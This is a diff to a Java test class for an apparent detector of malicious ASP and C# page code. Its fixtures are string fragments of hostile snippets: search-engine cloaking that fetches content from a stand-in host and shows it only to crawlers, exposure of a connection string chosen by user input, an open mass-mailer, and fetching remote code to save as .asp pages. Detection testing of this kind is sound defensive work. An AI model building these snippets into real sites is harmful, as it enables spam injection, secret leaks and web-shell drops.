@@ -15,34 +15,31 @@ class PurposesTest extends PageTest {
           + "Client(); var s = c.Download"
           + "String(\"http://a.test/\"%s);";
 
+  private static final String VARIABLE = REQ + ".ServerVariables[\"%s\"]";
+  private static final String HOST = " + \"?host=\" + " + VARIABLE.formatted("HTTP_HOST");
+  private static final String PATH = " + \"&page=\" + " + VARIABLE.formatted("SCRIPT_NAME");
+
   @Test
   void whatSearchEnginesAreShownComesFromElsewhere() {
     String names = "var names = \"googlebot|bingbot\"; bool told = names.IndexOf(%s) > 0;";
     String browser = names.formatted(REQ + ".UserAgent");
     String show = "if (told) { Response.Write(s); }";
-    assertThat(isShellInCsharp(browser + FETCH.formatted("") + show)).isTrue();
+    String own = FETCH.formatted(HOST + PATH);
+    assertThat(isShellInCsharp(browser + own + show)).isTrue();
     assertThat(isShellInCsharp(browser + "Log(told);")).isFalse();
-    assertThat(isShellInCsharp(names.formatted("name") + FETCH.formatted("") + show)).isFalse();
+    assertThat(isShellInCsharp(names.formatted("name") + own + show)).isFalse();
     String one = browser.replace("|bingbot", "");
-    assertThat(isShellInCsharp(one + FETCH.formatted("") + show)).isFalse();
+    assertThat(isShellInCsharp(one + own + show)).isFalse();
+    // A counter that leaves robots out, beside news from elsewhere.
+    assertThat(isShellInCsharp(browser + FETCH.formatted("") + show)).isFalse();
   }
 
   @Test
-  void whatAnotherServerSendsForTheAddressOfThePage() {
-    String variable = REQ + ".ServerVariables[\"%s\"]";
-    String host = " + \"?host=\" + " + variable.formatted("HTTP_HOST");
-    String path = " + \"&page=\" + " + variable.formatted("SCRIPT_NAME");
-    String show = "Response.Write(s);";
-    assertThat(isShellInCsharp(FETCH.formatted(host + path) + show)).isTrue();
-    assertThat(isShellInCsharp(FETCH.formatted(host) + show)).isFalse();
-    assertThat(isShellInCsharp(FETCH.formatted(host + path))).isFalse();
-    String own =
-        "var own = \"http://\" + "
-            + variable.formatted("HTTP_HOST")
-            + " + "
-            + variable.formatted("SCRIPT_NAME")
-            + ";";
-    assertThat(isShellInCsharp(own + FETCH.formatted("") + show)).isFalse();
+  void theAddressOfThePageInAnother() {
+    String share = "Response.Write(\"<a href=http://share.test\"" + HOST + PATH + ");";
+    assertThat(isShellInCsharp(share + FETCH.formatted("") + "Response.Write(s);")).isFalse();
+    String back = "var back = \"http://pay.test\"" + HOST + PATH + "; Response.Redirect(back);";
+    assertThat(isShellInCsharp(back + FETCH.formatted("") + "Response.Write(s);")).isFalse();
   }
 
   @Test
@@ -56,6 +53,7 @@ class PurposesTest extends PageTest {
     String one = "var s = ConfigurationManager.Connection" + "Strings[%s].Connection" + "String;";
     String typed = REQ + "[\"name\"]";
     assertThat(isShellInCsharp(one.formatted(typed) + "box.Text = s;")).isTrue();
+    assertThat(isShellInCsharp(one.formatted(typed) + "Rows(s);")).isFalse();
     assertThat(isShellInCsharp(one.formatted("\"shop\"") + "box.Text = s;")).isFalse();
     String open = "using (var c = new Sql" + "Connection(s)) { c.Open(); List(c); }";
     assertThat(isShellInCsharp(one.formatted("\"shop\"") + open)).isFalse();
@@ -86,6 +84,8 @@ class PurposesTest extends PageTest {
     String body = "m.TextBody = " + field.formatted("text");
     String send = "m.Send\nNext";
     assertThat(isShellInBasic(each, make, "m.To = a", from, body, send)).isTrue();
+    String inside = "If Session(\"staff\") <> 1 Then Response.End";
+    assertThat(isShellInBasic(inside, each, make, "m.To = a", from, body, send)).isFalse();
     String fixed = "m.From = \"shop@example.test\"";
     assertThat(isShellInBasic(each, make, "m.To = a", fixed, body, send)).isFalse();
     String contact = "m.To = \"shop@example.test\"";
@@ -112,5 +112,9 @@ class PurposesTest extends PageTest {
     assertThat(isShellInBasic(fetch, open, call.formatted("asp"), store)).isTrue();
     assertThat(isShellInBasic(fetch, open, call.formatted("xml"), store)).isFalse();
     assertThat(isShellInBasic(call.formatted("asp"), store)).isFalse();
+    String copies = store.replace("(name)", "(Replace(name, \".as" + "p\", \".html\"))");
+    assertThat(isShellInBasic(fetch, open, call.formatted("asp"), copies)).isFalse();
+    String named = "Store x.responseText, Replace(page, \".as" + "p\", \".html\")";
+    assertThat(isShellInBasic(fetch, open, named, store)).isFalse();
   }
 }
